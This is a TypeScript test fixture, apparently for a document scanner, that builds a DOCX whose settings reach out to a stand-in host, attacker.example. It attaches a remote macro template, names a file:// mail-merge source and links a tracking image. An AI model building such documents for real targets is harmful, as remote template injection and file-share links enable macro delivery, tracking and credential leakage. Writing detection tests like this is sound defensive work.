/**
 * Test support: a DOCX whose reader would fetch things on opening it — settings that attach a
 * remote macro template and name a mail-merge data source on another host, a picture linked to a
 * remote file besides its embedded bytes — with a hyperlink (followed only when clicked) and a
 * text control `client_name`. Every remote target is on attacker.example.
 */
import { makePng } from "./png-images";
import { buildDocx, DEFAULT_SETTINGS, hyperlink, hyperlinkRel, inlineImage, p, r } from "./docx-builder";

const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

export function linkedTemplate(): Uint8Array {
  const picture = inlineImage("rIdPic", 20, 20).replace(
    `<a:blip r:embed="rIdPic"/>`,
    `<a:blip r:embed="rIdPic" r:link="rIdRemotePic"/>`,
  );
  return buildDocx({
    body:
      p([
        r("Name: "),
        `<w:sdt><w:sdtPr><w:tag w:val="client_name"/></w:sdtPr><w:sdtContent>${r("x")}</w:sdtContent></w:sdt>`,
      ]) +
      p(picture) +
      p(hyperlink("rIdLink", "our terms")),
    media: { rIdPic: makePng(4, 4) },
    rels: [
      { id: "rIdRemotePic", type: "image", target: "https://attacker.example/track.png", external: true },
      hyperlinkRel("rIdLink", "https://example.com/terms"),
    ],
    settings: `<w:attachedTemplate r:id="rIdTpl"/>${DEFAULT_SETTINGS}<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:dataSource r:id="rIdData"/></w:mailMerge>`,
    extra: {
      "word/_rels/settings.xml.rels":
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rIdTpl" Type="${RELS}/attachedTemplate" Target="https://attacker.example/macros.dotm" TargetMode="External"/>` +
        `<Relationship Id="rIdData" Type="${RELS}/mailMergeSource" Target="file://attacker.example/share/data.mdb" TargetMode="External"/></Relationships>`,
    },
  });
}
